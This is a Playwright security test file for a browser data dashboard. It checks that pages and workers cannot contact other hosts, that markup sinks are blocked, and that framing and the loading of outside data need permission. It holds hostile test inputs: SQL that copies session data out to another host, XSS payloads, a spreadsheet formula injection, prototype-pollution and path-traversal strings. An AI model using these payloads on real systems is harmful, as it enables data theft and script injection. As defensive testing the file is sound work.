// Without the guard of `test.ts`: these tests try what the others must never do.
import { createHash } from 'node:crypto';
import { expect, type Page, test } from '@playwright/test';
import { builtFile, plainHost, type PlainHost } from './plainHost.ts';
import { follow, settled } from './test.ts';

/** Another host, which counts what it is asked. */
let other: PlainHost;

test.beforeAll(async () => {
  other = await plainHost('127.0.0.2', () => 'a,b\n1,2\n');
});

test.afterAll(() => other.close());

test.afterEach(() => {
  other.asked.length = 0;
});

/** Every way by which a script asks another host; gives back the ones that got through. Runs in a page or a worker. */
async function reachOut(origin: string): Promise<string[]> {
  const got = (way: string) => `${way} reached`;
  const not = () => '';
  const soon = (work: (done: (said: string) => void) => void, way: string) =>
    new Promise<string>((resolve) => {
      setTimeout(resolve, 3000, '');
      try {
        work((said) => resolve(said === 'open' ? got(way) : ''));
      } catch {
        resolve('');
      }
    });
  const script: string = `${origin}/import.js`;
  const ways = [
    fetch(`${origin}/fetch`).then(() => got('fetch'), not),
    fetch(`${origin}/blind`, { mode: 'no-cors' }).then(() => got('blind fetch'), not),
    import(script).then(() => got('import'), not),
    soon((done) => {
      const socket = new WebSocket(`${origin.replace('http', 'ws')}/socket`);
      socket.addEventListener('open', () => done('open'));
      socket.addEventListener('error', () => done('error'));
    }, 'socket'),
    soon((done) => {
      const source = new EventSource(`${origin}/events`);
      source.addEventListener('open', () => done('open'));
      source.addEventListener('error', () => done('error'));
    }, 'events'),
    soon((done) => {
      const request = new XMLHttpRequest();
      request.addEventListener('load', () => done('open'));
      request.addEventListener('error', () => done('error'));
      request.open('GET', `${origin}/xhr`);
      request.send();
    }, 'request'),
    soon((done) => {
      const worker = new Worker(`${origin}/worker.js`);
      worker.addEventListener('error', () => done('error'));
    }, 'worker'),
  ];
  if (typeof document !== 'undefined') {
    navigator.sendBeacon(`${origin}/beacon`, 'x');
    const image = new Image();
    image.src = `${origin}/image`;
    const form = Object.assign(document.createElement('form'), { action: `${origin}/form`, target: '_blank' });
    document.body.append(form);
    form.submit();
    form.remove();
    const frame = Object.assign(document.createElement('iframe'), { src: `${origin}/frame` });
    const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/sheet.css` });
    document.body.append(frame, sheet);
    await new Promise((resolve) => setTimeout(resolve, 300));
    frame.remove();
    sheet.remove();
  }
  const said = await Promise.all(ways);
  return said.filter((each) => each !== '');
}

/** The page, and every worker it runs, ask the other host in every way and get nothing. */
async function expectNoWayOut(page: Page): Promise<void> {
  const workers = page.workers();
  // The database and the reader of Parquet files.
  expect(workers.length).toBeGreaterThan(1);
  const reached = await Promise.all([
    page.evaluate(reachOut, other.origin),
    ...workers.map((worker) => worker.evaluate(reachOut, other.origin)),
  ]);
  expect(reached.flat()).toEqual([]);
  // A worker does reach its own host: it is the policy that stops it, not a slip of this test.
  const own = workers.map((worker) => worker.evaluate(() => fetch(`${self.origin}/data/catalog.json`)));
  await Promise.all(own);
  expect(other.asked).toEqual([]);
}

/** Keeps every worker of the page: the reader of Parquet files is let go at rest, which can be while it is asked. */
async function keepWorkers(page: Page): Promise<void> {
  await page.addInitScript(() => {
    Worker.prototype.terminate = () => undefined;
  });
}

/** What Trusted Types refuse, by the name of the sink; the same sinks take text without them. */
function openSinks(): string[] {
  const sinks: [name: string, use: () => unknown][] = [
    ['innerHTML', () => (document.createElement('div').innerHTML = '<b>x</b>')],
    ['script.src', () => (document.createElement('script').src = '/a.js')],
    ['srcdoc', () => (document.createElement('iframe').srcdoc = '<b>x</b>')],
    ['DOMParser', () => new DOMParser().parseFromString('<b>x</b>', 'text/html')],
    ['Worker', () => new Worker('/a.js')],
  ];
  return sinks.flatMap(([name, use]) => {
    try {
      use();
      return [name];
    } catch {
      return [];
    }
  });
}

test('on a host without headers, the page and its workers reach no other host, and no text becomes markup or script', async ({
  page,
}) => {
  const host = await plainHost('127.0.0.1');
  // Proof that the other host can be reached at all.
  expect((await fetch(`${other.origin}/node`)).ok).toBe(true);
  expect(other.asked).toEqual(['GET /node']);
  other.asked.length = 0;

  await keepWorkers(page);
  const response = await page.goto(host.origin);
  expect(response?.headers()['content-security-policy']).toBeUndefined();
  await settled(page);
  await expectNoWayOut(page);
  expect(await page.evaluate(openSinks)).toEqual([]);
  await host.close();
});

test('on a host with headers too, and neither a statement nor a link gets there', async ({ page }) => {
  test.setTimeout(120_000);
  const steal = `select * from read_csv('${other.origin}/console.csv')`;
  await keepWorkers(page);
  const response = await page.goto(`./?view=data&sql=${encodeURIComponent(steal)}`);
  const headers = response?.headers() ?? {};
  expect(headers['content-security-policy']).toContain("default-src 'none'; script-src 'self' 'wasm-unsafe-eval';");
  expect(headers['content-security-policy']).toContain("; frame-ancestors 'self'");
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['permissions-policy']).toContain('camera=()');

  const engine = page.locator('html');
  await expect(engine).toHaveAttribute('data-engine', 'ready', { timeout: 60_000 });
  const shell = page.getByRole('region', { name: 'SQL console' });
  // A link writes a statement, and a person runs it or does not.
  await expect(shell.getByRole('textbox', { name: 'SQL statement' })).toContainText(steal);
  await expect(shell.locator('p[role="status"]').first()).toHaveText('');

  await expectNoWayOut(page);
  for (const statement of [
    steal,
    `attach '${other.origin}/a.db' as other`,
    `copy sessions to '${other.origin}/out.csv'`,
    `load '${other.origin}/x.duckdb_extension'`,
    `install httpfs from '${other.origin}'`,
    `select * from '${other.origin}/a.parquet'`,
  ]) {
    await shell.getByRole('textbox', { name: 'SQL statement' }).fill(statement);
    await shell.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(shell.getByRole('alert')).toContainText(/can only read|reaches no files and no other hosts/);
  }
  expect(other.asked).toEqual([]);
});

test('no link breaks the page or reaches another host', async ({ page }) => {
  const broken: string[] = [];
  page.on('pageerror', (error) => broken.push(error.message));
  page.on('dialog', (dialog) => {
    broken.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto('./');
  await settled(page);
  const heading = page.getByRole('banner');

  for (const search of [
    '?__proto__=polluted&constructor=x&toString=x&__proto__[polluted]=1&constructor.prototype.polluted=1',
    '?view=__proto__&by=constructor&grain=toString&product=__proto__,constructor',
    '?view=products&view=orders&view=data&state=a&state=b&state=!c',
    '?state=%E0%A4%A&product=%&country=%zz&%ff=%fe&from=%00',
    `?product=${'a,'.repeat(50_000)}`,
    `?state=${'!'.repeat(100_000)}`,
    `?${Array.from({ length: 5000 }, (_, key) => `k${key}=<script>hit=1</script>`).join('&')}`,
    '?product=<img src=x onerror=hit=1>&find="><svg onload=hit=1>&view=products',
  ]) {
    // Servers take no address of 100 kB, the page itself has to.
    await follow(page, search);
    await expect(heading).toBeVisible();
  }
  for (const [data, said] of [
    ['javascript:hit=1//manifest.json', 'does not begin with https'],
    [`data:application/json,{}`, 'does not begin with https'],
    [`${other.origin}/shop/manifest.json`, 'this site does not allow that'],
    [`//${new URL(other.origin).host}/shop/manifest.json`, 'this site does not allow that'],
    ['__proto__', 'There is no dataset'],
    ['../../etc', 'does not end in'],
  ] as const) {
    await follow(page, `?data=${encodeURIComponent(data)}`);
    await expect(page.getByRole('alert').first()).toContainText(said, { timeout: 30_000 });
  }
  expect(await page.evaluate(() => ['polluted' in {}, 'hit' in globalThis])).toEqual([false, false]);
  expect(broken).toEqual([]);
  expect(other.asked).toEqual([]);
});

const hostileProducts = [
  '<img src=x onerror="globalThis.hit=1">',
  '"><script>globalThis.hit=1</script>',
  "=cmd|'/C calc'!A0",
  '\u202Eevil\u2066\u202C',
  'javascript:globalThis.hit=1',
  '__proto__',
  '{{constructor.constructor("globalThis.hit=1")()}}',
  'x'.repeat(1_000_000),
];

/** The delivered files with names that try to be more than names. */
async function hostileFiles(): Promise<Map<string, string>> {
  const lines = (await builtFile('data/greenery/products.csv')).trimEnd().split('\n');
  const products = lines.map((line, index) => {
    const name = index === 0 ? undefined : hostileProducts[index - 1];
    const [id, , ...others] = line.split(',');
    return name === undefined ? line : [id, `"${name.replaceAll('"', '""')}"`, ...others].join(',');
  });
  const addresses = (await builtFile('data/greenery/addresses.csv')).replaceAll(
    ',Texas,',
    ',"<svg onload=""globalThis.hit=1"">",',
  );
  const files = new Map([
    ['products.csv', `${products.join('\n')}\n`],
    ['addresses.csv', addresses],
  ]);
  const manifest = JSON.parse(await builtFile('data/greenery/manifest.json')) as {
    dataVersion: string;
    tables: { file: string; bytes: number; sha256: string }[];
  };
  for (const table of manifest.tables) {
    const text = files.get(table.file);
    if (text === undefined) continue;
    table.bytes = Buffer.byteLength(text);
    table.sha256 = createHash('sha256').update(text).digest('hex');
  }
  manifest.dataVersion = '0'.repeat(16);
  return files.set('manifest.json', JSON.stringify(manifest));
}

test('names in the data are shown as the text they are, in every view', async ({ page }) => {
  test.setTimeout(120_000);
  const broken: string[] = [];
  page.on('pageerror', (error) => broken.push(error.message));
  page.on('dialog', (dialog) => {
    broken.push(dialog.message());
    void dialog.dismiss();
  });
  for (const [name, body] of await hostileFiles()) {
    await page.route(`**/data/greenery/${name}*`, (route) => route.fulfill({ body }));
  }
  await page.goto('./?by=product');
  await settled(page);
  for (const view of ['Funnel', 'Products', 'Inventory', 'Orders', 'Data']) {
    await page.getByRole('link', { name: view, exact: true }).click();
    await expect(page.locator('[aria-busy="true"]')).toHaveCount(0, { timeout: 30_000 });
    const found = await page.evaluate(() => ({
      elements: document.querySelectorAll(
        'img[src="x"], script:not([src]), svg[onload], [onerror], a[href^="javascript"]',
      ).length,
      hit: 'hit' in globalThis,
      tooWide: document.documentElement.scrollWidth - innerWidth,
    }));
    expect(found, view).toEqual({ elements: 0, hit: false, tooWide: 0 });
    if (view !== 'Products') continue;
    const names = await page.evaluate(() => [...document.querySelectorAll('th, td')].map((cell) => cell.textContent));
    for (const name of hostileProducts)
      expect(
        names.some((text) => text.includes(name)),
        name.slice(0, 50),
      ).toBe(true);
  }
  expect(broken).toEqual([]);
});

test('another site cannot frame the page, with headers or without, unless it is allowed to', async ({
  page,
  baseURL,
}) => {
  const frame = (address: string) => `<!doctype html><iframe src="${address}" width="800" height="600"></iframe>`;
  const index = await builtFile('index.html');
  const bare = await plainHost('127.0.0.1', (path) => (path === '/own.html' ? frame('/?embed=view') : null));
  const allowing = await plainHost('127.0.0.1', (path) =>
    path === '/index.html'
      ? index.replace(
          'name="greenery-frame-hosts" content=""',
          `name="greenery-frame-hosts" content="${stranger.origin}"`,
        )
      : null,
  );
  const stranger = await plainHost('127.0.0.2', (path) => {
    if (path === '/bare.html') return frame(`${bare.origin}/?state=Texas`);
    if (path === '/allowed.html') return frame(`${allowing.origin}/?embed=view`);
    return frame(baseURL ?? '');
  });
  const inside = page.frameLocator('iframe');
  const engine = inside.locator('html');

  await page.goto(`${stranger.origin}/bare.html`);
  await expect(inside.getByRole('heading')).toHaveText('The dashboard is not shown inside this page');
  const link = inside.getByRole('link');
  await expect(link).toHaveAttribute('href', `${bare.origin}/?state=Texas`);
  await expect(link).toHaveAttribute('target', '_blank');
  expect(await inside.locator('button, input, figure').count()).toBe(0);

  await page.goto(`${stranger.origin}/allowed.html`);
  // Also there the engine starts: browsers deny a page in a foreign frame some of what others have.
  await expect(engine).toHaveAttribute('data-engine', 'ready', { timeout: 60_000 });
  await page.goto(`${bare.origin}/own.html`);
  await expect(inside.locator('main')).toBeVisible();
  await expect(inside.getByText('The dashboard is not shown')).toHaveCount(0);

  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
  await page.goto(`${stranger.origin}/headers.html`);
  await refused;
  expect(await inside.locator('#root').count()).toBe(0);
  await Promise.all([bare.close(), allowing.close(), stranger.close()]);
});

test('data of another site is opened after a person agreed, on a site that allows it', async ({ page }) => {
  test.setTimeout(120_000);
  const seen: string[] = [];
  const theirs = await plainHost('127.0.0.2');
  const index = await builtFile('index.html');
  const site = await plainHost('127.0.0.1', (path) =>
    path === '/index.html'
      ? index
          .replace("connect-src 'self'", `connect-src 'self' ${theirs.origin}`)
          .replace('name="greenery-data-hosts" content=""', `name="greenery-data-hosts" content="${theirs.origin}"`)
      : null,
  );
  page.on('request', (request) => {
    if (!request.url().startsWith(theirs.origin)) return;
    const { referer = '', cookie = '' } = request.headers();
    seen.push(referer + cookie);
  });
  await page.goto(`${site.origin}/?data=${theirs.origin}/data/greenery/manifest.json&state=Texas`);
  const question = page.getByRole('alert').filter({ hasText: 'Open data from another site?' });
  await expect(question).toContainText(new URL(theirs.origin).host, { timeout: 60_000 });
  expect(theirs.asked).toEqual([]);

  await question.getByRole('button', { name: /^Open data from/ }).click();
  await settled(page);
  expect(theirs.asked).toContain('GET /data/greenery/manifest.json');
  // Neither where the person is nor who: no referrer, no cookie.
  expect(seen.length).toBeGreaterThan(3);
  expect(seen.join('')).toBe('');
  await Promise.all([site.close(), theirs.close()]);
});
